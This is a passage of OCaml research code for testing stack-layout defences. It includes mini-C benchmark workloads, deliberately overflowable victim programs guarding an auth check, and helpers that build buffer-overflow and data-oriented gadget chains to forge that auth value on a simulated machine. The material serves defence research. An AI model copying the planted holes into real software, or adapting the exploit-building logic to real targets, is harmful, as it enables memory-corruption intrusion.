   hmmer / libquantum are loop-dominated (≈0.5-2%). *)

(* 400.perlbench: opcode interpreter whose ops are string/vector
   operations over 128-byte windows (very perl); deep call chains but
   chunky bodies — the paper notes perlbench's performance overhead is
   comparatively low despite its memory overhead. *)
let perlbench_src =
  {|
char heap_str[8192];
long sp = 0;

long op_concat(long a, long b) {
  long i = 0;
  long h = 0;
  while (i < 128) {
    heap_str[(a + i) & 8191] = (char)(heap_str[(b + i) & 8191] + 1);
    h += heap_str[(a + i) & 8191] & 255;
    i += 1;
  }
  return h;
}

long op_index(long a, long needle) {
  long i = 0;
  while (i < 128) {
    if ((heap_str[(a + i) & 8191] & 255) == (needle & 255)) return i;
    i += 1;
  }
  return 0 - 1;
}

long op_hash(long a) {
  long h = 5381;
  long i = 0;
  while (i < 128) {
    h = h * 33 + (heap_str[(a + i) & 8191] & 255);
    i += 1;
  }
  return h;
}

long op_tr(long a) {
  long i = 0;
  long count = 0;
  while (i < 128) {
    long c = heap_str[(a + i) & 8191] & 255;
    if (c > 96 && c < 123) { heap_str[(a + i) & 8191] = (char)(c - 32); count += 1; }
    i += 1;
  }
  return count;
}

long interp_block(long seed, long depth) {
  long pc = 0;
  long acc = 0;
  long code = seed;
  if (depth > 0) acc += interp_block(seed * 31 + 7, depth - 1);
  while (pc < 6) {
    long op = code & 3;
    code = code * 1103515245 + 12345;
    switch (op) {
    case 0: acc += op_concat(code & 8191, acc & 8191); break;
    case 1: acc += op_index(code & 8191, acc); break;
    case 2: acc += op_hash(code & 8191); break;
    default: acc += op_tr(code & 8191);
    }
    pc += 1;
  }
  return acc;
}

int main() {
  long total = 0;
  long i = 0;
  while (i < 8192) { heap_str[i] = (char)(97 + (i % 26)); i += 1; }
  while (i < 8192 + 20) {
    total ^= interp_block(i * 2654435761, 24);
    i += 1;
  }
  print_int(total); print_newline();
  return 0;
}
|}

(* 401.bzip2: block-wise RLE + move-to-front; the encoder helper
   processes a 64-byte block per call. *)
let bzip2_src =
  {|
char data[4096];
char mtf[256];
char out[8192];
long out_pos = 0;

void gen_data() {
  long seed = 99;
  long i = 0;
  while (i < 4096) {
    seed = seed * 1103515245 + 12345;
    data[i] = (char)(((seed >> 16) & 7) + 97);
    i += 1;
  }
}

void encode_block(long base) {
  long i = base;
  long stop = base + 64;
  while (i < stop) {
    long c = data[i] & 255;
    long run = 1;
    long j = 0;
    long prev = 0;
    while (i + run < stop && (data[i + run] & 255) == c && run < 63) run += 1;
    // move-to-front of c
    while ((mtf[j] & 255) != c) j += 1;
    prev = mtf[0] & 255;
    mtf[0] = (char)c;
    long k = 1;
    while (k <= j) {
      long tmp = mtf[k] & 255;
      mtf[k] = (char)prev;
      prev = tmp;
      k += 1;
    }
    out[out_pos & 8191] = (char)run;
    out[(out_pos + 1) & 8191] = (char)j;
    out_pos += 2;
    i += run;
  }
}

int main() {
  long pass = 0;
  gen_data();
  while (pass < 10) {
    long k = 0;
    while (k < 256) { mtf[k] = (char)k; k += 1; }
    long blk = 0;
    while (blk < 4096) {
      encode_block(blk);
      blk += 64;
    }
    data[pass & 4095] = (char)(pass & 255);
    pass += 1;
  }
  print_int(out_pos); print_newline();
  return 0;
}
|}

(* 403.gcc: tokenizer + recursive-descent folding; scanning is inline,
   parse functions are called per term/expression. *)
let gcc_src =
  {|
char src[2048];
long pos = 0;

void gen_expr() {
  long seed = 1234567;
  long i = 0;
  while (i < 2040) {
    long r = 0;
    seed = seed * 6364136223846793005 + 1442695040888963407;
    r = (seed >> 33) & 15;
    if (r < 12) src[i] = (char)(48 + ((seed >> 8) & 9));
    else if (r == 12) src[i] = 43;
    else if (r == 13) src[i] = 42;
    else if (r == 14) src[i] = 45;
    else src[i] = 49;
    i += 1;
  }
  src[2040] = 48;
  src[2041] = 0;
}

long symtab[128];

long parse_atom() {
  long c = src[pos] & 255;
  long v = 0;
  long probe = 0;
  long h = 0;
  while (c >= 48 && c <= 57) {
    v = v * 10 + (c - 48);
    pos += 1;
    c = src[pos] & 255;
  }
  // constant-pool interning: probe the open-addressed table
  h = (v * 2654435761) & 127;
  while (probe < 96) {
    if (symtab[(h + probe) & 127] == v) { probe = 200; }
    else if (symtab[(h + probe) & 127] == 0) {
      symtab[(h + probe) & 127] = v | 1;
      probe = 200;
    }
    else probe += 1;
  }
  return v;
}

long parse_term() {
  long v = parse_atom();
  while ((src[pos] & 255) == 42) {
    pos += 1;
    v = v * parse_atom();
  }
  return v;
}

long parse_expr() {
  long v = parse_term();
  long c = src[pos] & 255;
  while (c == 43 || c == 45) {
    pos += 1;
    if (c == 43) v += parse_term();
    else v -= parse_term();
    c = src[pos] & 255;
  }
  return v;
}

int main() {
  long total = 0;
  long i = 0;
  gen_expr();
  while (i < 20) {
    pos = 0;
    total ^= parse_expr();
    src[(i * 37) & 2039] = (char)(48 + (i & 7));
    i += 1;
  }
  print_int(total); print_newline();
  return 0;
}
|}

(* 429.mcf: arc relaxation sweeps — loop-dominated, a pricing helper
   called once per sweep. *)
let mcf_src =
  {|
long cost_[2048];
long head_[2048];
long dist_[512];

long price_sweep(long round) {
  long i = 0;
  long p = 0;
  while (i < 64) {
    p += dist_[(round + i) & 511] & 1023;
    i += 1;
  }
  return p;
}

int main() {
  long seed = 7;
  long i = 0;
  long sweep = 0;
  long total = 0;
  while (i < 2048) {
    seed = seed * 1103515245 + 12345;
    cost_[i] = (seed >> 12) & 1023;
    head_[i] = (seed >> 22) & 511;
    i += 1;
  }
  i = 0;
  while (i < 512) { dist_[i] = 1 << 20; i += 1; }
  dist_[0] = 0;
  while (sweep < 70) {
    long a = 0;
    while (a < 2048) {
      long from = a & 511;
      long to = head_[a];
      long nd = dist_[from] + cost_[a];
      if (nd < dist_[to]) dist_[to] = nd;
      a += 1;
    }
    total += price_sweep(sweep);
    sweep += 1;
  }
  print_int(total + dist_[311]); print_newline();
  return 0;
}
|}

(* 445.gobmk: the paper's call-density worst case — small per-call work
   on a large (mostly untouched) board-copy frame, called very often. *)
let gobmk_src =
  {|
char board[4096];

void init_board() {
  long seed = 31;
  long i = 0;
  while (i < 4096) {
    seed = seed * 1103515245 + 12345;
    board[i] = (char)((seed >> 20) & 3);
    i += 1;
  }
}

long count_liberties(long at) {
  char scratch[4096];    // working copy of the board: a gobmk-sized frame
  long libs = 0;
  long i = 0;
  memcpy(scratch, board + (at & 3071), 48);
  while (i < 16) {
    libs += scratch[i] & 3;
    i += 1;
  }
  return libs;
}

long eval_point(long at, long depth) {
  long score = count_liberties(at);
  if (depth > 0) score += eval_point(at + 37, depth - 1);
  return score;
}

int main() {
  long total = 0;
  long move = 0;
  init_board();
  while (move < 1600) {
    total += eval_point(move * 7, 4);
    board[(move * 53) & 4095] = (char)(move & 3);
    move += 1;
  }
  print_int(total); print_newline();
  return 0;
}
|}

(* 456.hmmer: DP inner loops; a per-row posterior helper. *)
let hmmer_src =
  {|
long vit[3][256];
long match_s[256];
long insert_s[256];

long row_posterior(long row) {
  long j = 0;
  long acc = 0;
  while (j < 48) {
    acc += vit[row % 3][j * 5 & 255];
    j += 1;
  }
  return acc;
}

int main() {
  long seed = 17;
  long i = 0;
  long row = 0;
  long total = 0;
  while (i < 256) {
    seed = seed * 1103515245 + 12345;
    match_s[i] = (seed >> 10) & 255;
    insert_s[i] = (seed >> 18) & 127;
    vit[0][i] = 0;
    i += 1;
  }
  while (row < 280) {
    long cur = row % 3;
    long prev = (row + 2) % 3;
    long j = 1;
    while (j < 256) {
      long m = vit[prev][j - 1] + match_s[(row + j) & 255];
      long ins = vit[prev][j] + insert_s[j];
      long del = vit[cur][j - 1] - 3;
      long best = m;
      if (ins > best) best = ins;
      if (del > best) best = del;
      vit[cur][j] = best;
      j += 1;
    }
    total ^= row_posterior(row);
    row += 1;
  }
  print_int(total); print_newline();
  return 0;
}
|}

(* 458.sjeng: alpha-beta with a substantial leaf evaluation. *)
let sjeng_src =
  {|
long pst[256];
long nodes = 0;

long eval_leaf(long state) {
  long h = state * 2654435761;
  long score = 0;
  long i = 0;
  while (i < 56) {
    score += pst[(h + i * 7) & 255] * ((i & 3) + 1);
    i += 1;
  }
  return score & 1023;
}

long alphabeta(long state, long depth, long alpha, long beta) {
  long k = 0;
  long best = 0 - 100000;
  nodes += 1;
  if (depth == 0) return eval_leaf(state);
  while (k < 4) {
    long child = state * 31 + k * 17 + 1;
    long v = 0 - alphabeta(child, depth - 1, 0 - beta, 0 - alpha);
    if (v > best) best = v;
    if (best > alpha) alpha = best;
    if (alpha >= beta) { k = 4; }
    else k += 1;
  }
  return best;
}

int main() {
  long total = 0;
  long root = 0;
  long i = 0;
  while (i < 256) { pst[i] = (i * 13) & 127; i += 1; }
  while (root < 3) {
    total ^= alphabeta(root * 977, 6, 0 - 100000, 100000);
    root += 1;
  }
  print_int(total + nodes); print_newline();
  return 0;
}
|}

(* 462.libquantum: gate application over the state vector — tight
   loops; one measurement helper per gate. *)
let libquantum_src =
  {|
long amp_re[4096];
long amp_im[4096];

long measure_norm(long stride) {
  long j = 0;
  long n = 0;
  while (j < 64) {
    n += amp_re[(j * stride) & 4095] & 255;
    j += 1;
  }
  return n;
}

int main() {
  long i = 0;
  long gate = 0;
  long total = 0;
  while (i < 4096) { amp_re[i] = i & 255; amp_im[i] = (i * 7) & 255; i += 1; }
  while (gate < 36) {
    long target = gate % 12;
    long mask = 1 << target;
    long j = 0;
    while (j < 4096) {
      if ((j & mask) == 0) {
        long k = j | mask;
        long re = amp_re[j] + amp_re[k];
        long im = amp_im[j] - amp_im[k];
        amp_re[j] = re >> 1;
        amp_im[j] = im >> 1;
        amp_re[k] = (amp_re[j] - re) & 65535;
        amp_im[k] = (amp_im[j] + im) & 65535;
      }
      j += 1;
    }
    total += measure_norm(gate + 3);
    gate += 1;
  }
  print_int(total + amp_re[1234] + amp_im[2345]); print_newline();
  return 0;
}
|}

(* 464.h264ref: 16x16 SAD and 4x4 transforms across many distinct
   small functions — the P-BOX heavyweight. *)
let h264ref_src =
  {|
char frame_a[8192];
char frame_b[8192];

void gen_frames() {
  long seed = 3;
  long i = 0;
  while (i < 8192) {
    seed = seed * 1103515245 + 12345;
    frame_a[i] = (char)((seed >> 16) & 255);
    frame_b[i] = (char)((seed >> 8) & 255);
    i += 1;
  }
}

long clip255(long v) { if (v < 0) return 0; if (v > 255) return 255; return v; }

long sad16x16(long oa, long ob) {
  long s = 0;
  long r = 0;
  while (r < 16) {
    long c = 0;
    while (c < 16) {
      long d = (frame_a[(oa + r * 64 + c) & 8191] & 255)
               - (frame_b[(ob + r * 64 + c) & 8191] & 255);
      if (d < 0) d = 0 - d;
      s += d;
      c += 1;
    }
    r += 1;
  }
  return s;
}

void hadamard4(long *v0, long *v1, long *v2, long *v3) {
  long a = *v0 + *v2;
  long b = *v0 - *v2;
  long c = *v1 + *v3;
  long d = *v1 - *v3;
  *v0 = a + c; *v1 = b + d; *v2 = a - c; *v3 = b - d;
}

long transform_block(long off) {
  long t0 = frame_a[off & 8191] & 255;
  long t1 = frame_a[(off + 1) & 8191] & 255;
  long t2 = frame_a[(off + 2) & 8191] & 255;
  long t3 = frame_a[(off + 3) & 8191] & 255;
  long acc = 0;
  long rep = 0;
  while (rep < 12) {
    hadamard4(&t0, &t1, &t2, &t3);
    acc += clip255(t0) + clip255(t1 >> 1) + clip255(t2 >> 2) + clip255(t3 >> 3);
    t0 = acc & 255;
    rep += 1;
  }
  return acc;
}

long quant_coeff(long v, long qp) {
  long q = 0;
  long i = 0;
  while (i < 16) { q += (v * (52 - qp) + i) >> 6; i += 1; }
  return q;
}

long median3(long a, long b, long c) {
  if (a > b) { long t = a; a = b; b = t; }
  if (b > c) { long t = b; b = c; c = t; }
  if (a > b) { long t = a; a = b; b = t; }
  return b;
}

long lambda_of(long qp) { return (qp * qp) >> 4; }

long mode_decide(long blk) {
  short costs[8];
  long best = 1 << 30;
  long m = 0;
  while (m < 8) {
    long c = sad16x16((blk * 16) & 8063, ((blk + m) * 16) & 8063)
             + lambda_of(m + 20) + quant_coeff(m * 3, 26)
             + median3(m, blk & 15, (blk + m) & 15);
    costs[m] = (short)c;
    if (c < best) best = c;
    m += 1;
  }
  return best + costs[blk & 7];
}

int main() {
  long total = 0;
  long blk = 0;
  gen_frames();
  while (blk < 70) {
    total += mode_decide(blk);
    total += transform_block(blk * 4);
    blk += 1;
  }
  print_int(total); print_newline();
  return 0;
}
|}

(* 471.omnetpp: discrete-event simulation — heap churn plus a routing
   table update per event. *)
let omnetpp_src =
  {|
long heap_t[1025];
long heap_d[1025];
long route[256];
long hsize = 0;

void heap_push(long t, long d) {
  long i = 0;
  hsize += 1;
  heap_t[hsize] = t;
  heap_d[hsize] = d;
  i = hsize;
  while (i > 1 && heap_t[i / 2] > heap_t[i]) {
    long tt = heap_t[i / 2]; heap_t[i / 2] = heap_t[i]; heap_t[i] = tt;
    long dd = heap_d[i / 2]; heap_d[i / 2] = heap_d[i]; heap_d[i] = dd;
    i = i / 2;
  }
}

long heap_pop() {
  long top = heap_d[1];
  long i = 1;
  heap_t[1] = heap_t[hsize];
  heap_d[1] = heap_d[hsize];
  hsize -= 1;
  while (2 * i <= hsize) {
    long c = 2 * i;
    if (c + 1 <= hsize && heap_t[c + 1] < heap_t[c]) c += 1;
    if (heap_t[i] <= heap_t[c]) { i = hsize + 1; }
    else {
      long tt = heap_t[i]; heap_t[i] = heap_t[c]; heap_t[c] = tt;
      long dd = heap_d[i]; heap_d[i] = heap_d[c]; heap_d[c] = dd;
      i = c;
    }
  }
  return top;
}

long handle_event(long data, long now) {
  long kind = data & 3;
  long hop = 0;
  while (hop < 72) {
    route[(data + hop) & 255] = (route[(data + hop) & 255] + now) & 65535;
    hop += 1;
  }
  if (kind == 0) heap_push(now + (data & 63) + 1, data * 5 + 1);
  else if (kind == 1) {
    heap_push(now + 3, data ^ 9);
    heap_push(now + 9, data + 2);
  }
  return kind;
}

int main() {
  long now = 0;
  long processed = 0;
  long total = 0;
  heap_push(1, 4);
  heap_push(2, 9);
  while (hsize > 0 && processed < 4000) {
    long d = heap_pop();
    now += 1;
    total += handle_event(d, now);
    processed += 1;
  }
  print_int(total + processed); print_newline();
  return 0;
}
|}

(* 473.astar: greedy search; neighbor pushes inline, the open-list scan
   is the hot call. *)
let astar_src =
  {|
char grid[4096];
long open_x[1024];
long open_y[1024];
long open_f[1024];
long n_open = 0;

void gen_grid() {
  long seed = 23;
  long i = 0;
  while (i < 4096) {
    seed = seed * 1103515245 + 12345;
    if (((seed >> 13) & 7) == 0) grid[i] = 1;
    else grid[i] = 0;
    i += 1;
  }
  grid[0] = 0;
  grid[4095] = 0;
}

long pop_best() {
  long best = 0;
  long i = 1;
  while (i < n_open) {
    if (open_f[i] < open_f[best]) best = i;
    i += 1;
  }
  n_open -= 1;
  long bx = open_x[best];
  long by = open_y[best];
  open_x[best] = open_x[n_open];
  open_y[best] = open_y[n_open];
  open_f[best] = open_f[n_open];
  return bx * 64 + by;
}

int main() {
  long expansions = 0;
  long restart = 0;
  while (restart < 5) {
    gen_grid();
    n_open = 0;
    open_x[0] = restart & 3;
    open_y[0] = 0;
    open_f[0] = 126;
    n_open = 1;
    while (n_open > 0 && n_open < 1020 && expansions < 7000) {
      long cell = pop_best();
      long x = cell / 64;
      long y = cell % 64;
      expansions += 1;
      if (x + 1 < 64 && grid[(x + 1) * 64 + y] == 0) {
        open_x[n_open] = x + 1; open_y[n_open] = y;
        open_f[n_open] = 126 - x - y; n_open += 1;
        grid[(x + 1) * 64 + y] = 2;
      }
      if (y + 1 < 64 && grid[x * 64 + y + 1] == 0) {
        open_x[n_open] = x; open_y[n_open] = y + 1;
        open_f[n_open] = 126 - x - y; n_open += 1;
        grid[x * 64 + y + 1] = 2;
      }
    }
    restart += 1;
  }
  print_int(expansions); print_newline();
  return 0;
}
|}

(* 483.xalancbmk: markup transformation — the escaper handles a run of
   characters per call. *)
let xalanc_src =
  {|
char doc[4096];
char out_buf[8192];

void gen_doc() {
  long seed = 41;
  long i = 0;
  while (i < 2040) {
    seed = seed * 1103515245 + 12345;
    long r = (seed >> 17) & 31;
    if (r == 0) doc[i] = 60;
    else if (r == 1) doc[i] = 62;
    else if (r == 2) doc[i] = 38;
    else doc[i] = (char)(97 + (r & 7));
    i += 1;
  }
  doc[4088] = 0;
}

// copies the plain run starting at [i], escapes the markup char after
// it, returns the new input position
long emit_run(long i, long *optr) {
  long o = *optr;
  long c = doc[i] & 255;
  while (c != 0 && c != 60 && c != 62 && c != 38) {
    out_buf[o & 8191] = (char)c;
    o += 1;
    i += 1;
    c = doc[i] & 255;
  }
  if (c == 60) { out_buf[o & 8191] = 38; out_buf[(o+1) & 8191] = 108; o += 4; i += 1; }
  else if (c == 62) { out_buf[o & 8191] = 38; out_buf[(o+1) & 8191] = 103; o += 4; i += 1; }
  else if (c == 38) { out_buf[o & 8191] = 38; out_buf[(o+1) & 8191] = 97; o += 5; i += 1; }
  *optr = o;
  return i;
}

long transform_doc() {
  long i = 0;
  long o = 0;
  while (doc[i] != 0) {
    i = emit_run(i, &o);
  }
  return o;
}

int main() {
  long total = 0;
  long round = 0;
  gen_doc();
  while (round < 40) {
    total += transform_doc();
    doc[(round * 101) & 4087] = 60;
    round += 1;
  }
  print_int(total); print_newline();
  return 0;
}
|}

(* Wireshark-like I/O loop: dissect a long stream of small frames. *)
let wireshark_io_src =
  {|
long n_dissected = 0;

void dissect_frame(char *data, long len) {
  long proto = 0;
  long off = 0;
  char pd[256];
  memcpy(pd, data, len);
  while (off < len) {
    proto ^= pd[off] & 255;
    off += 1;
  }
  n_dissected += proto & 1;
}

void capture_loop() {
  char fdata[2048];
  long flen = 0;
  long frames = 0;
  while (frames < 100000) {
    flen = read_input(fdata, 255);
    if (flen <= 0) break;
    dissect_frame(fdata, flen);
    frames += 1;
  }
  print_int(frames); print_newline();
}

int main() { capture_loop(); return 0; }
|}

let lcg_input n seed =
  let b = Buffer.create n in
  let s = ref seed in
  for _ = 1 to n do
    s := ((!s * 1103515245) + 12345) land 0x3FFFFFFF;
    Buffer.add_char b (Char.chr (97 + (!s lsr 16 mod 26)))
  done;
  Buffer.contents b

(* ProFTPD-like I/O loop: benign commands through the same binary the
   security experiments attack. *)
let proftpd_io_input =
  String.concat ""
    (List.init 2500 (fun i -> Printf.sprintf "CWD /srv/data/%02d" (i mod 97)))

(* Wireshark-like I/O loop: a stream of small frames. *)
let wireshark_io_input =
  String.concat "" (List.init 1500 (fun i -> lcg_input 48 (i + 5)))

let mk ?(hints = []) wname kind description source input sched_bias_pct =
  {
    wname;
    kind;
    description;
    source;
    input;
    sched_bias_pct;
    program = lazy (Minic.Driver.compile source);
    dop_hints = hints;
  }

let spec =
  [
    mk "perlbench" `Spec "opcode interpreter, deep call chains" perlbench_src ""
      1.2;
    mk "bzip2" `Spec "RLE + move-to-front compression" bzip2_src "" (-0.6);
    mk "gcc" `Spec "expression parsing + constant folding" gcc_src "" 0.4;
    mk "mcf" `Spec "min-cost-flow arc relaxation" mcf_src "" (-1.8);
    mk "gobmk" `Spec "board evaluation, multi-KiB frames" gobmk_src "" 2.0;
    mk "hmmer" `Spec "profile-HMM dynamic programming" hmmer_src "" (-2.2);
    mk "sjeng" `Spec "alpha-beta game-tree search" sjeng_src "" 1.5;
    mk "libquantum" `Spec "quantum gate simulation, tight loops"
      libquantum_src "" (-2.6);
    mk "h264ref" `Spec "block transforms, many small functions" h264ref_src ""
      0.8;
    mk "omnetpp" `Spec "discrete-event simulation over a heap" omnetpp_src ""
      (-0.4);
    mk "astar" `Spec "greedy grid pathfinding" astar_src "" 0.6;
    mk "xalancbmk" `Spec "markup transformation pipeline" xalanc_src "" 0.3;
  ]

let io =
  [
    mk
      ~hints:[ ("sreplace", "buf") ]
      "proftpd-io" `Io "FTP command loop (I/O bound)" Proftpd.source
      proftpd_io_input 0.2;
    mk
      ~hints:[ ("dissect_frame", "pd") ]
      "wireshark-io" `Io "frame dissection loop (I/O bound)" wireshark_io_src
      wireshark_io_input 0.1;
  ]

let all = spec @ io
let find name = List.find_opt (fun w -> String.equal w.wname name) all
