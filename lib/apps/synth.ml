type variant = {
  vname : string;
  technique : [ `Direct | `Indirect ];
  location : [ `Stack | `Data | `Heap ];
  source : string;
  program : Ir.Prog.t Lazy.t;
  attack : Defenses.Defense.applied -> seed:int64 -> Attacks.Verdict.t;
  attack_session :
    ?backend:Machine.Backend.t ->
    ?arm:(Machine.Exec.state -> unit) ->
    Defenses.Defense.applied ->
    seed:int64 ->
    Attacks.Verdict.t * Machine.Exec.stats option * int;
}

let granted = "GRANTED:"
let benign_output = "denied\n"
let auth_magic = 4919L (* 0x1337 *)

(* ------------------------------------------------------------------ *)
(* Sources                                                             *)

(* Listing-1 shape: the gadget operands are POINTERS, so the attacker's
   virtual machine state lives wherever the pointers aim (here: the
   program's own globals vr0/vr1) and survives across iterations. *)
let stack_direct_src =
  {|
long vr0 = 1;
long vr1 = 0;
long auth = 0;

void serve() {
  long ctr = 0;
  long *size = &vr1;
  long *step = &vr0;
  long req = 0;
  long n = 0;
  char buff[64];
  while (ctr < 8) {
    n = read_input(buff, 4096);
    if (n <= 0) break;
    if (req == 1) *size += *step;
    else if (req == 2) *size -= *step;
    else if (req == 3) *step = *size;
    ctr += 1;
  }
  if (auth == 4919) { print_str("GRANTED:"); print_int(auth); print_newline(); }
  else { print_str("denied"); print_newline(); }
}

int main() { serve(); return 0; }
|}

(* stack-direct with a disclosure preamble: serve() prints every
   local's absolute address — one integer line each, in frame
   declaration order — before its first read.  The deliberately-leaky
   target for the leak-guided attack path: the static analyzer
   (Analysis.Leakan) finds the address-disclosure flows, and the guided
   executor (Dopc.Exec.run_chain_guided) parses the preamble live and
   pins the revealed offsets.  Deliberately NOT in [variants]: its
   output depends on the drawn layout, which would poison the
   deterministic pentest and offense tables. *)
let stack_leaky_src =
  {|
long vr0 = 1;
long vr1 = 0;
long auth = 0;

void serve() {
  long ctr = 0;
  long *size = &vr1;
  long *step = &vr0;
  long req = 0;
  long n = 0;
  char buff[64];
  print_int((long)&ctr); print_newline();
  print_int((long)&size); print_newline();
  print_int((long)&step); print_newline();
  print_int((long)&req); print_newline();
  print_int((long)&n); print_newline();
  print_int((long)&buff); print_newline();
  while (ctr < 8) {
    n = read_input(buff, 4096);
    if (n <= 0) break;
    if (req == 1) *size += *step;
    else if (req == 2) *size -= *step;
    else if (req == 3) *step = *size;
    ctr += 1;
  }
  if (auth == 4919) { print_str("GRANTED:"); print_int(auth); print_newline(); }
  else { print_str("denied"); print_newline(); }
}

int main() { serve(); return 0; }
|}

let stack_indirect_src =
  {|
long g_log = 0;
long auth = 0;

void serve() {
  long stamp = 7;
  long seen = 0;
  long ticks = 0;
  long n = 0;
  char buff[64];
  while (ticks < 8) {
    n = read_input(buff, 4096);
    if (n <= 0) break;
    if (seen == 0) { seen = (long)&g_log; }
    *(long*)seen = stamp;
    ticks += 1;
  }
  if (auth == 4919) { print_str("GRANTED:"); print_int(auth); print_newline(); }
  else { print_str("denied"); print_newline(); }
}

int main() { serve(); return 0; }
|}

let data_direct_src =
  {|
char gbuf[64];
long g_idx = 0;
long g_val = 0;
long g_total = 0;

void serve() {
  long auth = 0;
  long slots[16];
  long rounds = 0;
  long n = 0;
  while (rounds < 8) {
    n = read_input(gbuf, 4096);
    if (n <= 0) break;
    if (g_idx >= 0) slots[g_idx] = g_val;
    g_total += g_val;
    rounds += 1;
  }
  if (auth == 4919) { print_str("GRANTED:"); print_int(auth); print_newline(); }
  else { print_str("denied"); print_newline(); }
}

int main() { serve(); return 0; }
|}

let data_indirect_src =
  {|
char gbuf[64];
long g_out = 0;
long g_stamp = 0;
long g_log = 0;

void serve() {
  long auth = 0;
  long rounds = 0;
  long n = 0;
  long bytes_seen = 0;
  long errs = 0;
  long last = 0;
  char reqid[32];
  if (g_out == 0) g_out = (long)&g_log;
  while (rounds < 8) {
    n = read_input(gbuf, 4096);
    if (n <= 0) break;
    *(long*)g_out = g_stamp;
    bytes_seen += n;
    last = n;
    if (n > 64) errs += 1;
    memcpy(reqid, gbuf, 31);
    rounds += 1;
  }
  if (auth == 4919) { print_str("GRANTED:"); print_int(auth); print_newline(); }
  else { print_str("denied"); print_newline(); }
}

int main() { serve(); return 0; }
|}

let heap_direct_src =
  {|
struct hctl { long idx; long val; };

void serve() {
  long auth = 0;
  long slots[16];
  long rounds = 0;
  long n = 0;
  char *hbuf = (char*)malloc(64);
  struct hctl *ctl = (struct hctl*)malloc(16);
  ctl->idx = 0;
  ctl->val = 0;
  while (rounds < 8) {
    n = read_input(hbuf, 4096);
    if (n <= 0) break;
    if (ctl->idx >= 0) slots[ctl->idx] = ctl->val;
    rounds += 1;
  }
  if (auth == 4919) { print_str("GRANTED:"); print_int(auth); print_newline(); }
  else { print_str("denied"); print_newline(); }
}

int main() { serve(); return 0; }
|}

let heap_indirect_src =
  {|
struct hptr { long out; long stamp; };
long g_log = 0;

void serve() {
  long auth = 0;
  long rounds = 0;
  long n = 0;
  long bytes_seen = 0;
  long errs = 0;
  long last = 0;
  char reqid[32];
  char *hbuf = (char*)malloc(64);
  struct hptr *ctl = (struct hptr*)malloc(16);
  ctl->out = (long)&g_log;
  ctl->stamp = 7;
  while (rounds < 8) {
    n = read_input(hbuf, 4096);
    if (n <= 0) break;
    *(long*)(ctl->out) = ctl->stamp;
    bytes_seen += n;
    last = n;
    if (n > 64) errs += 1;
    memcpy(reqid, hbuf, 31);
    rounds += 1;
  }
  if (auth == 4919) { print_str("GRANTED:"); print_int(auth); print_newline(); }
  else { print_str("denied"); print_newline(); }
}

int main() { serve(); return 0; }
|}

(* ------------------------------------------------------------------ *)
(* Attack helpers                                                      *)

let run_and_judge_session ?backend ?arm applied ~seed ~chunks =
  let outcome, stats = Runner.run_chunks ?backend ?arm applied ~seed ~chunks in
  ( Attacks.Verdict.classify outcome
      ~goal_met:(Dopkit.goal_in_output granted stats),
    Some stats,
    List.length chunks )

(* Stack-relative offsets of serve()'s locals, from the binary when it
   reveals them, otherwise an Algorithm-1 guess driven by the seed. *)
let serve_offsets applied ~slots ~buffer ~vars ~seed =
  match
    Dopkit.binary_offsets (applied : Defenses.Defense.applied).prog ~func:"serve"
      ~buffer ~vars
  with
  | Some l -> l
  | None -> Dopkit.guessed_offsets ~slots ~buffer ~vars ~fid_slot:true ~seed

let chunk_of layout assignments =
  Attacks.Overflow.craft ~len:1
    (List.map
       (fun (var, v) -> Attacks.Overflow.u64 (List.assoc var layout) v)
       assignments)

(* A layout guess can be geometrically impossible (victim below the
   buffer, overlapping writes): the attempt is simply wasted. *)
let attempt_session ?backend ?arm applied ~seed craft =
  match craft () with
  | chunks -> run_and_judge_session ?backend ?arm applied ~seed ~chunks
  | exception Invalid_argument _ -> (Attacks.Verdict.No_effect, None, 0)

let global_addr prog name =
  match List.assoc_opt name (Attacks.Layout.global_addrs prog) with
  | Some a -> Int64.of_int a
  | None -> invalid_arg ("Apps.Synth: no global " ^ name)

(* stack-direct: a genuine DOP computation.  Build auth = 0x1337 in the
   attacker's virtual registers (the program's vr0/vr1 cells) with
   double-and-add ADD gadgets, then ADD it into the auth global —
   roughly 20 chained gadget invocations, each dispatched by one
   overflow that re-aims the operand pointers and pins the loop
   counter. *)
let stack_direct_slots =
  [
    ("ctr", 8, 8); ("size", 8, 8); ("step", 8, 8); ("req", 8, 8); ("n", 8, 8);
    ("buff", 64, 1);
  ]

let stack_direct_chunks (applied : Defenses.Defense.applied) ~seed =
  let layout =
    serve_offsets applied ~slots:stack_direct_slots ~buffer:"buff"
      ~vars:[ "ctr"; "size"; "step"; "req" ] ~seed
  in
  let vr0 = global_addr applied.prog "vr0" in
  let vr1 = global_addr applied.prog "vr1" in
  let auth = global_addr applied.prog "auth" in
  (* one ADD gadget invocation: *dst += *src *)
  let add ~dst ~src =
    chunk_of layout [ ("req", 1L); ("size", dst); ("step", src); ("ctr", 0L) ]
  in
  let target = Int64.to_int auth_magic in
  (* vr0 = 1 (initial), vr1 = 0: double-and-add MSB-first *)
  let bits = List.init 13 (fun i -> (target lsr (12 - i)) land 1) in
  List.concat_map
    (fun bit ->
      add ~dst:vr1 ~src:vr1
      :: (if bit = 1 then [ add ~dst:vr1 ~src:vr0 ] else []))
    bits
  @ [ add ~dst:auth ~src:vr1 ]

let stack_indirect_slots =
  [ ("stamp", 8, 8); ("seen", 8, 8); ("ticks", 8, 8); ("n", 8, 8); ("buff", 64, 1) ]

let stack_indirect_chunks (applied : Defenses.Defense.applied) ~seed =
  let layout =
    serve_offsets applied ~slots:stack_indirect_slots ~buffer:"buff"
      ~vars:[ "stamp"; "seen"; "ticks" ] ~seed
  in
  let auth = global_addr applied.prog "auth" in
  (* corrupt the pointer ("seen") first, then the program's own
     *seen = stamp write does the damage — RIPE's indirect mode *)
  [ chunk_of layout [ ("stamp", auth_magic); ("seen", auth); ("ticks", 0L) ] ]

(* data/heap variants need the distance from the stack array to the
   auth local — the quantity Smokestack randomizes per call. *)
let stack_write_params applied ~slots ~seed =
  let layout = serve_offsets applied ~slots ~buffer:"slots" ~vars:[ "auth" ] ~seed in
  let rel = List.assoc "auth" layout in
  if rel < 0 || rel mod 8 <> 0 then
    invalid_arg "auth not reachable as a positive slot index"
  else Int64.of_int (rel / 8)

let data_heap_slots =
  [ ("auth", 8, 8); ("slots", 128, 8); ("rounds", 8, 8); ("n", 8, 8) ]

let data_direct_chunks (applied : Defenses.Defense.applied) ~seed =
  let idx = stack_write_params applied ~slots:data_heap_slots ~seed in
  let gaddrs = Attacks.Layout.global_addrs applied.prog in
  let gbuf = List.assoc "gbuf" gaddrs in
  let rel name = List.assoc name gaddrs - gbuf in
  [
    Attacks.Overflow.craft ~len:1
      [
